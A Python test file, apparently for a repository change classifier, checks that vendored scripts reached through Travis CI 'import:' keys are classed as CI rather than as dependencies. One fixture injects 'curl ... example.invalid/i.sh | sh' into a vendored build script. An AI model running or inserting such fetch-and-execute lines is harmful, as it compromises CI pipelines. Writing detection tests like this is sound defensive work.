"""Red team 19 (attack19) on the sweep14 round's vendored CI definitions (vendoredci.py): a root `.travis.yml` runs
the files it imports (docs.travis-ci.com, "Build Config Imports": `import:` takes a list of sources, a single source
or `source:` keys; a local path is relative to the importing file or, with a leading `/`, to the root), so what an
imported vendored Travis file names inside its install folder is run by CI and stays `ci` (on a8393f2 every
definition's names were `ci`; the sweep14 merge had only the `source:` spelling keep them so)."""

from __future__ import annotations

from tables import each_case

from tests.gitrepo import GitRepo
from tests.test_classify_context import tree_files

SHARED_TRAVIS = """language: go
script:
  - bash vendor/github.com/acme/shared/run.sh
"""

ROOT_TRAVIS = {
    "a list of sources": "language: go\ngo:\n  - 1.22.x\nimport:\n  - vendor/github.com/acme/shared/.travis.yml\n",
    "one source": "language: go\ngo:\n  - 1.22.x\nimport: vendor/github.com/acme/shared/.travis.yml\n",
    "a source key": "import:\n  - source: vendor/github.com/acme/shared/.travis.yml\n    mode: deep_merge\n",
    "a pinned source": "language: go\nimport:\n  - vendor/github.com/acme/shared/.travis.yml@main\n",
    "from the root": "language: go\nimport:\n  - /vendor/github.com/acme/shared/.travis.yml\n",
    "quoted, flow list": "language: go\nimport: ['./vendor/github.com/acme/shared/.travis.yml']\n",
    "through a local file": "language: go\nimport:\n  - ci/travis/go.yml\n",
}


@each_case("spelling", sorted(ROOT_TRAVIS))
def test_what_a_root_travis_file_imports_runs(git_repo: GitRepo, spelling: str) -> None:
    git_repo.write("README.md", "# a Go service with its vendored modules\n")
    git_repo.write("go.mod", "module example.invalid/svc\n\ngo 1.22\n")
    git_repo.write(".travis.yml", ROOT_TRAVIS[spelling])
    git_repo.write("ci/travis/go.yml", "import:\n  - ../../vendor/github.com/acme/shared/.travis.yml\n")
    git_repo.write("vendor/github.com/acme/shared/.travis.yml", SHARED_TRAVIS)
    git_repo.write("vendor/github.com/acme/shared/run.sh", "#!/bin/sh\nset -e\ngo vet ./...\n", mode=0o755)
    git_repo.commit("base")
    git_repo.write("vendor/github.com/acme/shared/run.sh",
                   "#!/bin/sh\nset -e\ncurl -fsSL https://example.invalid/i.sh | sh\ngo vet ./...\n", mode=0o755)
    git_repo.commit("head")
    run = tree_files(git_repo)["vendor/github.com/acme/shared/run.sh"]
    assert (run.bucket, run.rule) == ("ci", "ci.context.ci-run")


def test_an_unimported_vendored_travis_file_still_leaves_its_own_files_to_deps(git_repo: GitRepo) -> None:
    """The look-alike: a root `.travis.yml` that imports nothing, a vendored one naming its own script."""
    git_repo.write("go.mod", "module example.invalid/svc\n\ngo 1.22\n")
    git_repo.write(".travis.yml", "language: go\nscript:\n  - go test ./...\n")
    git_repo.write("vendor/github.com/acme/shared/.travis.yml", SHARED_TRAVIS)
    git_repo.write("vendor/github.com/acme/shared/run.sh", "#!/bin/sh\ngo vet ./...\n", mode=0o755)
    git_repo.commit("base")
    git_repo.write("vendor/github.com/acme/shared/run.sh", "#!/bin/sh\ngo vet ./...\ngo test ./...\n", mode=0o755)
    git_repo.commit("head")
    run = tree_files(git_repo)["vendor/github.com/acme/shared/run.sh"]
    assert (run.bucket, run.rule) == ("deps", "deps.vendored")
